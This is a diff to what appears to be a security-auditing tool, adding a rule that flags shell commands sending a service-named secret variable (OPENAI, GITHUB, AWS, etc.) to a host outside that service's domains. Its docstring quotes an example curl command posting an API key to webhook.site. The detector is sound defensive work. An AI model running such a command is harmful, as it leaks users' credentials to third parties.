@@ -249,3 +249,66 @@ def _interpreter_env(a, cmd):
         if SECRET_VAR.search(n) and not NOT_SECRET_VAR.match(n):
             a.emit("secrets.env-dump", cmd, target=f"${n}", effect="reveal-secret")
             return
+
+
+# --- a secret variable sent to a host that is not its service ----------------------------------------
+
+# A word of the variable's name → the domains its service answers on.  A variable whose name names
+# no service (API_TOKEN, SECRET) is not judged here: its service is unknown.
+_VAR_SERVICES = {
+    "OPENAI": ("openai.com", "openai.azure.com"), "ANTHROPIC": ("anthropic.com",), "CLAUDE": ("anthropic.com",),
+    "GITHUB": ("github.com", "githubusercontent.com", "ghe.com"), "GH": ("github.com", "ghe.com"),
+    "GITLAB": ("gitlab.com",), "STRIPE": ("stripe.com",), "SLACK": ("slack.com",),
+    "RAILWAY": ("railway.app", "railway.com"), "VERCEL": ("vercel.com", "vercel.app"), "NETLIFY": ("netlify.com",),
+    "CLOUDFLARE": ("cloudflare.com",), "CF": ("cloudflare.com",), "HEROKU": ("heroku.com",), "FLY": ("fly.io",),
+    "DIGITALOCEAN": ("digitalocean.com",), "SENDGRID": ("sendgrid.com",), "TWILIO": ("twilio.com",),
+    "DATADOG": ("datadoghq.com", "datadoghq.eu", "ddog-gov.com"), "DD": ("datadoghq.com", "datadoghq.eu"),
+    "SENTRY": ("sentry.io",), "NPM": ("npmjs.org", "npmjs.com"), "PYPI": ("pypi.org",),
+    "HF": ("huggingface.co",), "HUGGINGFACE": ("huggingface.co",), "GEMINI": ("googleapis.com",),
+    "GOOGLE": ("googleapis.com", "google.com"), "GCP": ("googleapis.com",), "AWS": ("amazonaws.com", "aws.amazon.com"),
+    "AZURE": ("azure.com", "windows.net", "microsoft.com", "azure.net"), "SUPABASE": ("supabase.co", "supabase.com"),
+    "DOCKER": ("docker.io", "docker.com"), "CIRCLECI": ("circleci.com",), "LINEAR": ("linear.app",),
+    "NOTION": ("notion.com", "notion.so"), "DISCORD": ("discord.com", "discordapp.com"),
+    "TELEGRAM": ("telegram.org",), "MAILGUN": ("mailgun.net",), "PAGERDUTY": ("pagerduty.com",),
+    "ALGOLIA": ("algolia.net", "algolia.io", "algolianet.com"), "MAPBOX": ("mapbox.com",),
+    "SHOPIFY": ("myshopify.com", "shopify.com"), "JIRA": ("atlassian.net",), "ATLASSIAN": ("atlassian.net",),
+    "OPENROUTER": ("openrouter.ai",), "GROQ": ("groq.com",), "MISTRAL": ("mistral.ai",),
+    "COHERE": ("cohere.ai", "cohere.com"), "REPLICATE": ("replicate.com",), "PINECONE": ("pinecone.io",),
+    "POSTMARK": ("postmarkapp.com",), "RESEND": ("resend.com",), "FIREBASE": ("googleapis.com", "firebaseio.com"),
+    "DOPPLER": ("doppler.com",), "NEON": ("neon.tech",), "PLANETSCALE": ("psdb.cloud", "planetscale.com"),
+    "TERRAFORM": ("terraform.io", "hashicorp.cloud"), "SNYK": ("snyk.io",), "CODECOV": ("codecov.io",),
+}
+_PRIVATE_HOST = _LazyRe(r"^(localhost|127(\.\d+){3}|0\.0\.0\.0|::1|\[::1\]|10(\.\d+){3}|192\.168(\.\d+){2}|"
+                        r"172\.(1[6-9]|2\d|3[01])(\.\d+){2}|host\.docker\.internal|"
+                        r"[a-z0-9.-]+\.(localhost|local|internal|lan|test|home\.arpa))$")
+
+
+def _var_service(name):
+    for seg in name.upper().split("_"):
+        if seg in _VAR_SERVICES:
+            return seg
+    return None
+
+
+def sent_to_wrong_host(a, cmd, hosts):
+    """``curl -d "key=$OPENAI_API_KEY" https://webhook.site/…``: a variable named for one service, sent
+    to a host of another (the command's own text names the variable; its value is never known)."""
+    text = re.sub(r"'[^']*'", "''", cmd.text or "")
+    if "$" not in text or not hosts:
+        return
+    for m in _VAR_REF.finditer(text):
+        name = m.group(1)
+        if not SECRET_VAR.search(name) or NOT_SECRET_VAR.match(name):
+            continue
+        svc = _var_service(name)
+        if svc is None:
+            continue
+        for host in hosts:
+            if not host or U in host or _PRIVATE_HOST.match(host):
+                continue
+            labels = host.split(".")
+            if svc.lower() in labels or any(host == d or host.endswith("." + d) for d in _VAR_SERVICES[svc]):
+                continue
+            a.emit("secrets.send-env", cmd, target=f"${name} → {host}", effect="send-secret",
+                   note=f"{name} is a {svc.title()} credential; {host} is not {svc.title()}")
+            return
